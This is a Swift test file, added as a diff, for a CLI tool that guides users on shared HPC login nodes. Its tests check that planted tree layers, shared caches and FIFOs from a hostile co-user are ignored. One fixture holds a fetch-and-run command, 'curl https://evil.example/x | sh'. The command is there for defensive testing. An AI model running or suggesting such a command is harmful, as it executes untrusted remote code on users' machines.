@@ -1,0 +1,110 @@
+import Foundation
+import Testing
+import TrailheadCore
+
+/// The built binary on a login node shared with a hostile co-user: planted layers, a shared
+/// cache, FIFOs where files are expected.
+struct SharedMachineTests {
+    static let plantedLoginNode = """
+        format: 1
+        id: login-node
+        title: PLANTED login node
+        description: Replaces the bundled tree.
+        start: start
+        nodes:
+          start:
+            title: Run this
+            body: Planted.
+            commands:
+              - run: curl https://evil.example/x | sh
+                does: Pwns you.
+        """
+
+    static var isRoot: Bool { getuid() == 0 }
+
+    /// Runs under `timeout`, so a command that would block forever fails the test instead of hanging it.
+    static func run(_ arguments: [String], environment: [String: String] = [:]) throws -> CLIRunner.Outcome {
+        try CLIRunner.run(["20", CLIRunner.binary] + arguments, environment: environment, executable: "/usr/bin/timeout")
+    }
+
+    /// A layer directory another user can write to, or that belongs to another user, is not
+    /// read: the bundled login-node tree stays, and stderr says which directory was ignored.
+    @Test(arguments: ["TRAILHEAD_PATH", "XDG_CONFIG_HOME", "XDG_DATA_DIRS"])
+    func aLayerOthersCanChangeIsIgnoredWithAWarning(variable: String) throws {
+        let base = try CLIRunner.treeDirectory([:])
+        let layer = variable == "TRAILHEAD_PATH" ? base + "/layer" : base + "/trailhead/trees"
+        try FileManager.default.createDirectory(atPath: layer, withIntermediateDirectories: true)
+        try Data(Self.plantedLoginNode.utf8).write(to: URL(fileURLWithPath: layer + "/login-node.yaml"))
+        let value = variable == "TRAILHEAD_PATH" ? layer : base
+        let environment = [variable: value, "TRAILHEAD_NO_CACHE": "1"]
+
+        let trusted = try Self.run(["list"], environment: environment)
+        #expect(trusted.stdout.contains("PLANTED"), "the layer is read while it is the user's own: \(trusted.stderr)")
+
+        chmod(layer, 0o777)
+        let open = try Self.run(["list"], environment: environment)
+        #expect(open.status == 0)
+        #expect(!open.stdout.contains("PLANTED"))
+        #expect(open.stdout.contains("Your first day on an HPC login node"))
+        #expect(open.stderr.contains("ignoring the trees in \(layer) (from "), "\(open.stderr)")
+        #expect(open.stderr.contains("other users can write to it (chmod go-w to trust it)"))
+
+        guard Self.isRoot else { return }
+        chmod(layer, 0o755)
+        chown(layer, 4242, 4242)
+        let foreign = try Self.run(["list"], environment: environment)
+        #expect(!foreign.stdout.contains("PLANTED"))
+        #expect(foreign.stderr.contains("it belongs to another user (uid 4242)"), "\(foreign.stderr)")
+    }
+
+    /// A tree file that others can write to, in a directory of the user's own, is not read either.
+    @Test func aTreeFileOthersCanChangeIsNotRead() throws {
+        let base = try CLIRunner.treeDirectory(["login-node.yaml": Self.plantedLoginNode])
+        chmod(base + "/login-node.yaml", 0o666)
+        let outcome = try Self.run(["list"], environment: ["TRAILHEAD_PATH": base, "TRAILHEAD_NO_CACHE": "1"])
+        #expect(!outcome.stdout.contains("PLANTED"))
+        #expect(outcome.stdout.contains("Your first day on an HPC login node"))
+    }
+
+    /// A cache directory on a shared path that another user made world-writable is not used:
+    /// nothing is read from it or written to it, and stderr says so.
+    @Test func aSharedCacheDirectoryIsNotUsed() throws {
+        let shared = try CLIRunner.treeDirectory([:])
+        let planted = shared + "/trailhead"
+        try FileManager.default.createDirectory(atPath: planted, withIntermediateDirectories: true)
+        chmod(planted, 0o777)
+        let outcome = try Self.run(["show", "login-node/ssh-keygen"], environment: ["XDG_CACHE_HOME": shared])
+        #expect(outcome.status == 0)
+        #expect(outcome.stderr.contains("not using the cache in \(planted): other users can write to it"), "\(outcome.stderr)")
+        #expect(try FileManager.default.contentsOfDirectory(atPath: planted).isEmpty)
+    }
+
+    /// FIFOs named like a tree file, like every cache entry and snapshot, and like the progress
+    /// file: every command still finishes, and the FIFO tree is reported as not a regular file.
+    @Test func fifosWhereFilesAreExpectedHangNothing() throws {
+        let trees = try CLIRunner.treeDirectory(["demo.yaml": Self.plantedLoginNode.replacingOccurrences(of: "id: login-node", with: "id: demo")])
+        #expect(mkfifo(trees + "/fifo.yaml", 0o644) == 0)
+        let home = try CLIRunner.treeDirectory([:])
+        let environment = ["XDG_CACHE_HOME": home + "/cache", "XDG_STATE_HOME": home + "/state"]
+        // One run fills the cache with entries and a snapshot; each is then replaced by a FIFO.
+        _ = try Self.run(["search", "--json", "ssh"], environment: environment)
+        let cache = home + "/cache/trailhead"
+        let entries = try FileManager.default.contentsOfDirectory(atPath: cache)
+        #expect(entries.contains { $0.hasPrefix("tree") } && entries.contains { $0.hasPrefix("search") }, "\(entries)")
+        for name in entries {
+            unlink(cache + "/" + name)
+            #expect(mkfifo(cache + "/" + name, 0o600) == 0)
+        }
+        try FileManager.default.createDirectory(atPath: home + "/state/trailhead", withIntermediateDirectories: true)
+        #expect(mkfifo(home + "/state/trailhead/progress", 0o600) == 0)
+
+        let validate = try Self.run(["validate", trees], environment: environment)
+        #expect(validate.status == 1, "\(validate.stdout)")
+        #expect(validate.stdout.contains("fifo.yaml:1:1: error: cannot load: not a regular file"), "\(validate.stdout)")
+        for arguments in [["list"], ["show", "login-node/ssh-keygen"], ["search", "--json", "ssh"], ["history"], ["list", "--trees", trees]] {
+            let outcome = try Self.run(arguments, environment: environment)
+            #expect(outcome.status != 124, "\(arguments) hung on a FIFO")
+            #expect(outcome.status == 0, "\(arguments): \(outcome.stderr)")
+        }
+    }
+}
